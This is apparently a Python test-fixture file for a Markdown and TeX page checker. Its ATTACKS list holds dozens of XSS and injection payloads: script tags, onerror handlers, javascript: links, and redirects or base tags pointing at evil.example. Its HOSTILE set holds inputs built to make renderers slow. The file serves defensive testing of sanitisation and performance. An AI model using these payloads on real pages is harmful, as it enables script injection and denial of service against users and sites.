"""Texts for tools/page_check.py: Markdown, formulas, attacks, and what is slow to render."""

MARKDOWN = """Here is a **mutex** in *C*, with `pthread_mutex_t`, a [link](https://example.org/a_(b)) and
a <script>window.ran = 1</script> tag, snake_case_name, 2 * 3 * 4.

## Steps

1. Make the lock.
2. Take it:
   - `pthread_mutex_lock`
   - do the work
3. Give it back.

| op | cost | note |
|---|---:|---|
| lock | 25 ns | uncontended |
| unlock | 20 ns | **always** |

> Quoted text
> over two lines.

```c
#include <pthread.h>
/* one counter, many threads */
static pthread_mutex_t m = PTHREAD_MUTEX_INITIALIZER;
int add(int n) {
    pthread_mutex_lock(&m); // a line that is longer than any telephone is wide, whatever one does
    return printf("%d\\n", total += n * 0x10);
}
```

[bad](javascript:alert(1)) ![picture](https://example.org/x.png) <img src=x onerror="window.ran=1">

So \\(a_1 * b_1\\) is **\u201cbold\u201d**\u662f, 3 \\* 4 and `` a`b ``; ~~gone~~, **_both_ of them**.

\\[
x = \\frac{a}{b}
- c
\\]

- [ ] open
- [x] done

---

Done."""

SIZE = 200000


def times(text):
    return (text * (SIZE // len(text) + 1))[:SIZE]


MATHS = r"""The roots of $ax^2 + bx + c$ are \(x = \frac{-b \pm \sqrt{b^2-4ac}}{2a}\), for $5 or $10.

$$
\int_0^\infty e^{-x^2}\,dx
  = \frac{\sqrt\pi}{2}
$$

\[ \begin{pmatrix} a & b \\ c & d \end{pmatrix} \]

1. In a list:
   \[
   \mathfrak{g} \cong \mathbb{R}^3
   \]
2. $$E = mc^2$$ in a line.

Wrong: \(\frac{a\), $\undefined{x}$, `$no$` and \$5$.

**Bold:**text and **“粗体”**是。

See [ref] and http://example.org/x_y.

[ref]: https://example.org/ref
"""

# What a hostile model may write.
ATTACKS = [
    "<script>window.ran=1</script>", "<img src=x onerror=window.ran=1>", "<svg onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", "<style>*{display:none}</style>",
    "<a href='javascript:window.ran=1'>x</a>", "<form action=//evil.example><input name=x></form>",
    "<details open ontoggle=window.ran=1>x</details>", "<details open>\n<summary onclick=window.ran=1><img src=x onerror=window.ran=1></summary>\n<script>window.ran=1</script>\n</details>",
    "a[^1]\n\n[^1]: <img src=x onerror=window.ran=1>", "<math><mi//xlink:href='data:x,<script>window.ran=1</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "[x](javascript:window.ran=1)", "[x](JaVaScRiPt:window.ran=1)", "[x](java\nscript:window.ran=1)", "[x](&#106;avascript:window.ran=1)",
    "[x](javascript&colon;window.ran=1)", "[x](\x01javascript:window.ran=1)", "[x](data:text/html,<script>window.ran=1</script>)",
    "[x](vbscript:x)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](/v1/models)", "[x](blob:http://a/b)",
    "<javascript:window.ran=1>", "![x](https://evil.example/x.png)", "![x](javascript:window.ran=1)", "![x](data:image/svg+xml,<svg onload=window.ran=1>)",
    "![a\"onerror=window.ran=1](https://evil.example/y.png \"t\\\" onload=window.ran=1\")", "[r]: javascript:window.ran=1\n\n[r]",
    "[x](https://e.example \"a' onmouseover='window.ran=1\")", "```\"><img src=x onerror=window.ran=1>\ncode\n```",
    "```html\n<script>window.ran=1</script><img src=x onerror=window.ran=1>\n```", "```__proto__\nx\n```", "```constructor\nx\n```",
    "$\\href{javascript:window.ran=1}{x}$", "$\\url{javascript:window.ran=1}$", "$\\includegraphics{https://evil.example/x.png}$",
    "$\\htmlData{x=y}{z} \\htmlId{input}{x} \\htmlClass{msg}{x} \\htmlStyle{position:fixed}{x}$", "$\\text{<img src=x onerror=window.ran=1>}$",
    "$\\color{red;background:url(//evil.example)}{x}$", "$\\def\\a{\\a\\a}\\a$", "$\\gdef\\frac#1#2{HACKED}\\frac12$ $\\frac12$",
    "$" + "{" * 900 + "x" + "}" * 900 + "$", "$\\rule{99999em}{99999em}$", "$\\kern{-9999em}x$ $\\raisebox{9999em}{x}$",
    "$\\begin{matrix}" + "a&" * 1500 + "\\end{matrix}$", "| <img src=x onerror=window.ran=1> |\n|---|\n| <script>window.ran=1</script> |",
    "- [x] <input autofocus onfocus=window.ran=1>", "# <h1 id=input>x</h1> {#input}", "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "<!-- --><script>window.ran=1</script>", "]]><script>window.ran=1</script>", "</script><script>window.ran=1</script>", "</textarea></pre></div><img src=x onerror=window.ran=1>",
    "http://evil.example/\"onmouseover=window.ran=1 x", "https://evil.example/<script>window.ran=1</script>", "\ue000script>window.ran=1\ue000/script>",
    "\u202eevil\u202c \u2066x\u2069", "a\x00b\x0b\x0c\x1b[31m",
]

# Texts that take some renderers of Markdown more than linear time.
HOSTILE = {
    "a heading and spaces": "# a" + " " * SIZE + "b",
    "marks of emphasis": times("*"), "emphasis that never ends": times("*a "),
    "strong in strong": times("**a ")[:SIZE // 2] + times("a** ")[:SIZE // 2],
    "emphasis of two kinds": times("*_*_**__"), "emphasis in words": times("a**bc*"),
    "ladder of backticks": "".join("`" * i + " " for i in range(1, 630)), "backticks": times("`a "),
    "brackets": "[" * (SIZE // 2) + "]" * (SIZE // 2), "links that never end": times("[a]("),
    "titles that never end": times('[a](b "'), "addresses that never end": times("[a](<b"),
    "pictures": times("!["), "links": times("[a](http://b.c) "), "addresses": times("<http://"),
    "quotes in quotes": times("> "), "lists in lists": times("- ") + "x", "a long list": times("- a\n"),
    "a deep list": "".join(" " * min(i, 400) + "- a\n" for i in range(1000)),
    "parts in parts": times("<details>\n"), "parts": times("<details>\n<summary>a</summary>\nb\n</details>\n"),
    "parts and lists": times("- <details>\n"), "summaries that never end": times("<details><summary>"),
    "notes": times("[^1]: a [^1]\n"), "ends of parts": "<details>\n" + times("</details> a"),
    "a part with spaces": "<details" + " " * SIZE + "x", "quotes": times("> a\nb\n"), "quotes and lists": times("> a\n\n- b\n\n"),
    "a wide table": "|".join("a" * 5000) + "\n" + "|".join("-" * 5000) + "\n" + times("|\n"),
    "a long table": "a|b\n-|-\n" + times("a|b\n"), "almost a rule": "---" + " " * SIZE + "x",
    "almost a table": "a|b\n" + times("-| "), "almost a fence": "~" * SIZE + "`",
    "an open fence": "```c\n" + times("int x = 1; // y\n"), "quotes in code": "```js\n" + times("'\\'")[:59000],
    "escapes in code": "```c\n" + times('\\"')[:59000], "TeX that never ends": times("\\(a "),
    "short lines": times("a\n"), "one word": times("a"), "spaces": " " * SIZE, "everything": times("*_`[~\\(\n> - | # "),
}

HOSTILE |= {
    "formulas": times("$x$ "), "dollars": times("$a "), "display formulas": times("$$x$$\n\n"), "open displays": times("\\[\n"),
    "displays that never end": times("$$\na\n\n"), "a formula in many lines": "\\[\n" + times("x\n") + "\\]",
    "nested braces": "$" + "{" * 1900 + "x" + "}" * 1900 + "$", "many fractions": times("$\\frac{\\frac{a}{b}}{\\sqrt{c}}$\n\n"),
    "a long identifier": "```c\n" + "a" * 19000 + "\n```", "code of long words": "```javascript\n" + times("a" * 900 + "\n")[:19900] + "\n```",
    "many fences": times("```js\nlet x = f(y) + 1\n```\n"), "definitions": times("[a]: http://b.c\n"), "uses of definitions": "[a]: http://b.c\n\n" + times("[a] "),
    "tables": times("a|b\n-|-\n1|2\n\n"), "headings": times("# a\n"), "carets and entities": times("&amp;&#x41;"), "http": times("http://a.b/ "),
    "twice the limit": times("Some *words* here.\n\n") * 2, "twice the limit in a fence": "```\n" + times("code\n") * 2,
    "stars between letters": times("a*b"), "marks and letters": times("**a"),
}

# Parts that open, footnotes, and a diagram.
PARTS = """Before

<details><summary><b>More</b> of it</summary>

- a list with **bold**

```html
</details>
```

<details open>
<summary>Inner</summary>
deep
</details>
</details>

<details><summary>One line</summary>all here</details>

A claim[^1], another[^2], and a class [^abc].

```mermaid
graph TD; A-->B
```

[^1]: The first *note*.
[^2]: The second note
goes on.

After

<details>
<summary>Open end</summary>
tail"""
